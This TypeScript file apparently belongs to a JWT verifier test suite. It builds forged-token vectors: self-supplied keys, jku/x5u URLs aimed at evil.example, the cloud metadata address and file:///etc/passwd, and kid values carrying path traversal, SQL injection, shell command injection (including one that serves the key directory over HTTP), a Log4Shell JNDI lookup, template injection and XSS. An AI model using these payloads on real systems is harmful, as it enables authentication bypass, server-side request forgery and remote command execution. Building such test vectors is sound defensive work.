import type { NamedToken } from "../jwt-vectors";
import { b64, macOf, newSigner, publicJwk, type Forge } from "../signing";

/** The header's other members: keys that a token brings along, key ids as input to something, asked-for processing. */
export async function headerVectors(forge: Forge): Promise<NamedToken[]> {
  return [...(await broughtKeys(forge)), ...(await keyIds(forge)), ...(await processing(forge))];
}

/** CVE-2018-0114 and jwt_tool's spoofing: signed by the stranger's key that the token itself points at. */
async function broughtKeys(forge: Forge): Promise<NamedToken[]> {
  const vectors: NamedToken[] = [];
  const ours = publicJwk(forge.material.es256);
  for (const alg of ["ES256", "RS256", "EdDSA"] as const) {
    const stranger = await newSigner(alg, "stranger");
    const jwk = publicJwk(stranger);
    vectors.push([`${alg} with its own jwk`, await forge.token({ jwk }, {}, stranger)]);
    vectors.push([
      `${alg} with its own jwk, no kid`,
      await forge.token({ jwk, kid: undefined }, {}, stranger),
    ]);
    vectors.push([
      `${alg} with its own jwk, kid of ours`,
      await forge.token({ jwk: { ...jwk, kid: ours.kid }, kid: ours.kid }, {}, stranger),
    ]);
    vectors.push([`${alg} with its own x5c`, await forge.token({ x5c: [CERTIFICATE] }, {}, stranger)]);
    for (const address of ADDRESSES)
      for (const member of ["jku", "x5u"])
        vectors.push([
          `${alg} with ${member} ${address}`,
          await forge.token({ [member]: address }, {}, stranger),
        ]);
  }
  const members: Readonly<Record<string, unknown>> = {
    jwk: ours,
    jku: forge.material.issuer,
    x5u: forge.material.issuer,
    x5c: [CERTIFICATE],
  };
  for (const [member, value] of Object.entries(members))
    for (const [what, given] of [
      ["an honest value", value] as const,
      ["null", null] as const,
      ["empty", ""] as const,
    ])
      vectors.push([`rightly signed, ${member} is ${what}`, await forge.token({ [member]: given })]);
  return vectors;
}

const CERTIFICATE = Buffer.from("not a certificate that anybody here would read").toString("base64");
const ADDRESSES = [
  "https://evil.example/jwks.json",
  "http://127.0.0.1/jwks.json",
  "http://169.254.169.254/latest/meta-data/",
  "file:///etc/passwd",
  "https://auth.validahub.local@evil.example/jwks.json",
  "data:application/json,{}",
];

/** PortSwigger's and jwt_tool's key ids. Rightly signed but for the kid, so that only a look-up by it can refuse. */
async function keyIds(forge: Forge): Promise<NamedToken[]> {
  const { es256, rs256, eddsa } = forge.material;
  const values = [
    "../../../../../../dev/null",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2fdev%2fnull",
    "/proc/sys/kernel/randomize_va_space",
    "file:///dev/null",
    "https://evil.example/key",
    "' UNION SELECT 'secret';-- -",
    "1' OR '1'='1",
    `${es256.kid}' --`,
    "|whoami",
    "/home/www/res/keys/secret.key; cd /home/www/res/keys/ && python -m SimpleHTTPServer 1337&",
    "`sleep 10`",
    "$(sleep 10)",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "*)(uid=*",
    `${es256.kid}\u0000`,
    `${es256.kid}\u0000.pem`,
    `${es256.kid} `,
    ` ${es256.kid}`,
    `${es256.kid}\n`,
    `${es256.kid}\u00a0`,
    `${es256.kid}\u200b`,
    es256.kid.toUpperCase() === es256.kid ? es256.kid.toLowerCase() : es256.kid.toUpperCase(),
    es256.kid.slice(0, -1),
    `${es256.kid}${es256.kid}`,
    rs256.kid,
    eddsa.kid,
    "",
    "0",
    "__proto__",
    "constructor",
    "toString",
    "undefined",
    "null",
    "x".repeat(256),
    "x".repeat(5000),
    "\ud800",
    null,
    0,
    -1,
    true,
    [],
    [es256.kid],
    {},
    { kid: es256.kid },
  ];
  const vectors: NamedToken[] = [];
  for (const kid of new Set(values)) {
    const text = JSON.stringify(kid);
    const name = text.length > 100 ? `of ${text.length - 2} characters` : text;
    vectors.push([`kid ${name}`, await forge.token({ kid })]);
    const input = forge.input(forge.header({ alg: "HS256", kid }), forge.claims());
    vectors.push([`kid ${name}, HS256 keyed with nothing`, `${input}.${b64(await macOf(input, ""))}`]);
  }
  return vectors;
}

/** Rightly signed; each asks for something that would have to be understood, or says that this is no set of claims. */
async function processing(forge: Forge): Promise<NamedToken[]> {
  const headers: readonly (readonly [string, Readonly<Record<string, unknown>>])[] = [
    ["crit empty", { crit: [] }],
    ["crit with exp", { crit: ["exp"], exp: forge.nowSeconds + 3600 }],
    ["crit with an unknown member", { crit: ["http://evil.example/x"], "http://evil.example/x": true }],
    ["crit with a missing member", { crit: ["bork"] }],
    ["crit with alg", { crit: ["alg"] }],
    ["crit with b64 true", { crit: ["b64"], b64: true }],
    ["crit with b64 false", { crit: ["b64"], b64: false }],
    ["crit twice", { crit: ["b64", "b64"], b64: true }],
    ["crit null", { crit: null }],
    ["crit a string", { crit: "b64" }],
    ["b64 false without crit", { b64: false }],
    ["b64 true", { b64: true }],
    ["zip DEF", { zip: "DEF" }],
    ["zip null", { zip: null }],
    ["enc", { enc: "A128GCM" }],
    ["enc null", { enc: null }],
    ["cty JWT", { cty: "JWT" }],
    ["cty text/xml", { cty: "text/xml" }],
    ["cty of a serialised object", { cty: "application/x-java-serialized-object" }],
    ["typ missing", { typ: undefined }],
    ["typ null", { typ: null }],
    ["typ empty", { typ: "" }],
    ["typ a number", { typ: 1 }],
    ["typ a list", { typ: ["JWT"] }],
    ["typ JOSE", { typ: "JOSE" }],
    ["typ dpop+jwt", { typ: "dpop+jwt" }],
    ["typ secevent+jwt", { typ: "secevent+jwt" }],
    ["typ logout+jwt", { typ: "logout+jwt" }],
    ["typ oauth-authz-req+jwt", { typ: "oauth-authz-req+jwt" }],
    ["typ JWT with a space", { typ: "JWT " }],
    ["typ JWT with a null byte", { typ: "JWT\u0000" }],
    ["typ of a look-alike", { typ: "at+jw\uff54" }],
    ["typ with a Turkish capital", { typ: "at+jwt\u0130" }],
  ];
  const unencoded = `${b64(JSON.stringify(forge.header({ b64: false, crit: ["b64"] })))}.payload`;
  return [
    ...(await Promise.all(
      headers.map(async ([name, header]): Promise<NamedToken> => [name, await forge.token(header)]),
    )),
    ["a payload unencoded as b64 says", await forge.signed(unencoded)],
  ];
}
